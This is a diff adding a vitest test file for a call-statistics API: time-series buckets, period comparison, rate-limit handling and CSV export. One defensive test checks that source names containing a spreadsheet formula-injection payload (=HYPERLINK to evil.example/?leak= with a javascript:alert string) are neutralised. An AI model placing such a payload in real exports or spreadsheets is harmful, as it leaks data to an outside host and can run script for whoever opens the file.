@@ -1,0 +1,235 @@
+// The time dimension against the simulator: /api/stats/series (one cached call per bucket,
+// partial under the rate limit, stale on upstream errors), the comparison in /api/stats, and
+// the CSV export, through the real route handlers with real session cookies.
+import { beforeEach, describe, expect, test, vi } from 'vitest';
+import { GET as getSeries } from '@/app/api/stats/series/route';
+import { GET as getExport } from '@/app/api/stats/export/route';
+import { resetUpstreamState } from '@/lib/talkover/state';
+import { getStatsForRange } from '@/simulator/data';
+import { ManualClock } from '../support/manual-clock';
+import { useStatsRoute } from '../support/stats-route';
+
+const TOKEN = 'talq_trends_canary_6b2e9d41c7';
+const route = useStatsRoute({ token: TOKEN, simulatorRateLimitPerMinute: 100_000 });
+let clock: ManualClock;
+
+const series = (query: string) => route.call(getSeries, `/api/stats/series${query}`);
+const csv = (query: string, headers: Record<string, string> = {}) => route.call(getExport, `/api/stats/export${query}`, headers);
+
+function expectSimulatorFigures(bucket: any, start: string, end: string) {
+  const expected = getStatsForRange(start, end);
+  expect(bucket.totals.received).toBe(expected.total_callbacks_received);
+  expect(bucket.totals.answered).toBe(expected.callbacks_answered);
+  expect(bucket.totals.unmatched).toBe(expected.callbacks_unmatched);
+  const counts = Object.fromEntries(bucket.sources.map((source: { id: string; count: number }) => [source.id, source.count]));
+  expect(counts).toEqual(Object.fromEntries(expected.callbacks_by_source_agent.map((source) => [source.source_agent_id, source.count])));
+}
+
+beforeEach(() => {
+  clock = new ManualClock();
+  resetUpstreamState(clock);
+});
+
+describe('GET /api/stats/series', () => {
+  test('weekly buckets (Monday weeks, clipped) equal the simulator’s sums of their days', async () => {
+    const { status, body, headers } = await series('?start_date=2025-01-01&end_date=2025-01-31&interval=week');
+    expect(status).toBe(200);
+    expect(headers.get('cache-control')).toBe('private, no-store');
+    expect(body.interval).toBe('week');
+    expect(body.week_start).toBe('monday');
+    expect(body.period).toEqual({ start_date: '2025-01-01', end_date: '2025-01-31', timezone: 'UTC' });
+    expect(body.buckets.map((b: any) => [b.start_date, b.end_date, b.partial])).toEqual([
+      ['2025-01-01', '2025-01-05', true],
+      ['2025-01-06', '2025-01-12', false],
+      ['2025-01-13', '2025-01-19', false],
+      ['2025-01-20', '2025-01-26', false],
+      ['2025-01-27', '2025-01-31', true],
+    ]);
+    for (const bucket of body.buckets) expectSimulatorFigures(bucket, bucket.start_date, bucket.end_date);
+    const sum = body.buckets.reduce((total: number, b: any) => total + b.totals.received, 0);
+    expect(sum).toBe(getStatsForRange('2025-01-01', '2025-01-31').total_callbacks_received);
+    expect(body.meta).toEqual({ complete: true, missing: [], fetched_at: new Date(clock.now()).toISOString(), stale: false });
+    expect(route.simulator.requestCount()).toBe(5);
+  });
+
+  test('daily buckets by default for 10 days, Sunday weeks with APP_WEEK_START=sunday', async () => {
+    const daily = await series('?start_date=2025-03-01&end_date=2025-03-10');
+    expect(daily.body.interval).toBe('day');
+    expect(daily.body.buckets).toHaveLength(10);
+    for (const bucket of daily.body.buckets) expectSimulatorFigures(bucket, bucket.start_date, bucket.start_date);
+
+    vi.stubEnv('APP_WEEK_START', 'sunday');
+    const weekly = await series('?start_date=2025-03-01&end_date=2025-03-10&interval=week');
+    expect(weekly.body.week_start).toBe('sunday');
+    expect(weekly.body.buckets.map((b: any) => b.start_date)).toEqual(['2025-03-01', '2025-03-02', '2025-03-09']);
+  });
+
+  test('a bucket and the same range opened directly share one cache entry', async () => {
+    await series('?start_date=2025-01-06&end_date=2025-01-19&interval=week');
+    expect(route.simulator.requestCount()).toBe(2);
+    const direct = await route.get('?start_date=2025-01-13&end_date=2025-01-19');
+    expect(direct.body.meta.cache).toBe('hit');
+    expect(route.simulator.requestCount()).toBe(2);
+  });
+
+  test.each([
+    ['?range=30d&interval=hour', 'invalid_interval'],
+    ['?start_date=2025-01-01&end_date=2025-04-30&interval=day', 'interval_too_fine'],
+    ['?range=30d&interval=day&interval=week', 'repeated_param'],
+    ['?range=30d&compare=lastyear', 'invalid_compare'],
+    ['?start_date=2025-03-10&end_date=2025-03-01', 'reversed_range'],
+  ])('answers 400 for %s (%s) without calling Talkover, as /api/stats does', async (query, code) => {
+    for (const answer of [await series(query), await route.get(query), await csv(query)]) {
+      expect(answer.status).toBe(400);
+      expect(answer.body.error.code).toBe(code);
+    }
+    expect(route.simulator.requestCount()).toBe(0);
+  });
+
+  test('answers 401 without a session', async () => {
+    route.signOut();
+    expect((await series('?range=7d')).status).toBe(401);
+    expect((await csv('?range=7d')).status).toBe(401);
+    expect(route.simulator.requestCount()).toBe(0);
+  });
+
+  test('with every bucket failing and nothing cached, answers the cause like /api/stats', async () => {
+    route.simulator.setFault({ mode: 'unauthorized' });
+    const { status, body } = await series('?start_date=2025-01-01&end_date=2025-01-07');
+    expect(status).toBe(502);
+    expect(body.error.code).toBe('upstream_rejected_token');
+  });
+});
+
+describe('series under the rate limit (TALKOVER_RATE_LIMIT_PER_MINUTE=10)', () => {
+  beforeEach(() => vi.stubEnv('TALKOVER_RATE_LIMIT_PER_MINUTE', '10'));
+  const RANGE = '?start_date=2025-01-01&end_date=2025-03-31'; // 90 days
+
+  test('a 90-day daily series completes partially with meta.missing, and never delays the totals', async () => {
+    const before = clock.now();
+    const [trend, totals] = await Promise.all([series(`${RANGE}&interval=day`), route.get(`${RANGE}&compare=previous`)]);
+
+    // The totals and their comparison went out at once, from the quarter kept for views.
+    expect(totals.status).toBe(200);
+    expect(totals.body.meta.cache).toBe('miss');
+    expect(totals.body.comparison.totals).not.toBeNull();
+    expect(clock.now()).toBe(before);
+
+    // Series calls spent the window down to the reserve of 3 (9 − 3 = 6 calls, the two view
+    // calls included when they came first), and not one call further.
+    expect(trend.status).toBe(200);
+    const loaded = trend.body.buckets.filter((b: any) => b.totals !== null);
+    expect(loaded.length).toBeGreaterThanOrEqual(4);
+    expect(loaded.length).toBeLessThanOrEqual(6);
+    expect(trend.body.meta.complete).toBe(false);
+    expect(trend.body.meta.missing).toHaveLength(90 - loaded.length);
+    expect(trend.body.buckets.filter((b: any) => b.totals === null).map((b: any) => b.start_date)).toEqual(
+      trend.body.meta.missing.map((m: any) => m.start_date),
+    );
+    for (const bucket of loaded) expectSimulatorFigures(bucket, bucket.start_date, bucket.end_date);
+    expect(route.simulator.requestCount()).toBe(loaded.length + 2);
+
+    // A minute later, asking again ("load the rest") loads 6 more; what was loaded is cached.
+    clock.advance(60_000);
+    const again = await series(`${RANGE}&interval=day`);
+    expect(again.body.buckets.filter((b: any) => b.totals !== null)).toHaveLength(loaded.length + 6);
+    expect(route.simulator.requestCount()).toBe(loaded.length + 2 + 6);
+  });
+});
+
+describe('stale buckets', () => {
+  test('after the closed TTL, a Talkover failure serves every bucket’s last good figures, marked stale', async () => {
+    const first = await series('?start_date=2025-01-06&end_date=2025-02-02&interval=week');
+    clock.advance(3_600_001);
+    route.simulator.setFault({ mode: 'server-error' });
+    const stale = await series('?start_date=2025-01-06&end_date=2025-02-02&interval=week');
+    expect(stale.status).toBe(200);
+    expect(stale.body.meta).toMatchObject({ complete: true, missing: [], stale: true, fetched_at: first.body.meta.fetched_at });
+    expect(stale.body.buckets).toEqual(first.body.buckets);
+    expect(route.simulator.requestCount()).toBe(8);
+  });
+});
+
+describe('comparison in GET /api/stats', () => {
+  test('without compare, the answer is what it always was: no comparison, one Talkover call', async () => {
+    const { body } = await route.get('?start_date=2025-02-01&end_date=2025-02-28');
+    expect(body).not.toHaveProperty('comparison');
+    expect(route.simulator.requestCount()).toBe(1);
+  });
+
+  test.each([
+    ['previous', '2025-01-04', '2025-01-31'],
+    ['year', '2024-02-01', '2024-02-28'],
+  ])('compare=%s: the earlier period %s..%s, its figures and the change', async (compare, start, end) => {
+    const { status, body } = await route.get(`?start_date=2025-02-01&end_date=2025-02-28&compare=${compare}`);
+    const now = getStatsForRange('2025-02-01', '2025-02-28');
+    const then = getStatsForRange(start, end);
+    expect(status).toBe(200);
+    expect(body.comparison.period).toEqual({ start_date: start, end_date: end, compare });
+    expect(body.comparison.totals.received).toBe(then.total_callbacks_received);
+    expect(body.comparison.change.received).toBeCloseTo((now.total_callbacks_received - then.total_callbacks_received) / then.total_callbacks_received, 4);
+    const rate = (d: typeof now) => d.callbacks_answered / d.total_callbacks_received;
+    expect(body.comparison.change.answer_rate).toBeCloseTo((rate(now) - rate(then)) * 100, 2);
+    expect(body.comparison.error).toBeNull();
+    expect(route.simulator.requestCount()).toBe(2);
+  });
+
+  test('an earlier period with no callbacks: change is null, never Infinity', async () => {
+    const { body } = await route.get('?start_date=2024-01-01&end_date=2024-01-31&compare=previous');
+    expect(body.comparison.totals.received).toBe(0);
+    expect(body.comparison.change).toEqual({ received: null, answered: null, unmatched: null, not_answered: null, answer_rate: null, unmatched_rate: null });
+    expect(body.comparison.rates).toEqual({ answer_rate: null, unmatched_rate: null });
+  });
+
+  test('when only the comparison fails, the totals still answer and the comparison says why', async () => {
+    await route.get('?start_date=2025-02-01&end_date=2025-02-28');
+    route.simulator.setFault({ mode: 'server-error' });
+    const { status, body } = await route.get('?start_date=2025-02-01&end_date=2025-02-28&compare=previous');
+    expect(status).toBe(200);
+    expect(body.totals.received).toBe(getStatsForRange('2025-02-01', '2025-02-28').total_callbacks_received);
+    expect(body.comparison).toMatchObject({ totals: null, change: null, error: { code: 'upstream_unavailable' } });
+  });
+});
+
+describe('GET /api/stats/export', () => {
+  const QUERY = '?start_date=2025-03-03&end_date=2025-03-16&interval=week';
+
+  test('a CSV file: BOM, CRLF, totals with the comparison, sources, and one row per bucket', async () => {
+    const { status, headers, text } = await csv(QUERY, { 'accept-language': 'en-US' });
+    expect(status).toBe(200);
+    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(headers.get('content-disposition')).toBe('attachment; filename="callbacks_2025-03-03_2025-03-16.csv"');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
+    const lines = text.slice(1).split('\r\n');
+    const now = getStatsForRange('2025-03-03', '2025-03-16');
+    const then = getStatsForRange('2025-02-17', '2025-03-02');
+    expect(lines).toContain('Compared with,2025-02-17 – 2025-03-02');
+    const change = Math.round(((now.total_callbacks_received - then.total_callbacks_received) / then.total_callbacks_received) * 10_000) / 100;
+    expect(lines).toContain(`Received,${now.total_callbacks_received},${then.total_callbacks_received},${change},%`);
+    const week1 = getStatsForRange('2025-03-03', '2025-03-09');
+    expect(lines.find((line) => line.startsWith('2025-03-03,2025-03-09,no,'))).toMatch(
+      new RegExp(`^2025-03-03,2025-03-09,no,${week1.total_callbacks_received},${week1.callbacks_answered},`),
+    );
+    expect(lines.some((line) => line.startsWith('2025-03-10,2025-03-16,no,'))).toBe(true);
+  });
+
+  test('a pt-BR viewer gets ; and a decimal comma; separator=comma overrides it', async () => {
+    const pt = await csv(QUERY, { 'accept-language': 'pt-BR,pt;q=0.9' });
+    expect(pt.text).toContain('Received;');
+    expect(pt.text).toMatch(/Answer rate \(%\);\d+,\d+;/);
+    const en = await csv(`${QUERY}&separator=comma`, { 'accept-language': 'pt-BR' });
+    expect(en.text).toMatch(/Answer rate \(%\),\d+\.\d+,/);
+    const bad = await csv(`${QUERY}&separator=tab`);
+    expect(bad.status).toBe(400);
+    expect(bad.body.error.code).toBe('invalid_separator');
+  });
+
+  test('source names that look like formulas are neutralised', async () => {
+    route.simulator.setFault({ mode: 'hostile-names' });
+    const { text } = await csv('?start_date=2025-04-01&end_date=2025-04-07', { 'accept-language': 'en-US' });
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak="",""javascript:alert(1)"")"`);
+    expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
+  });
+});
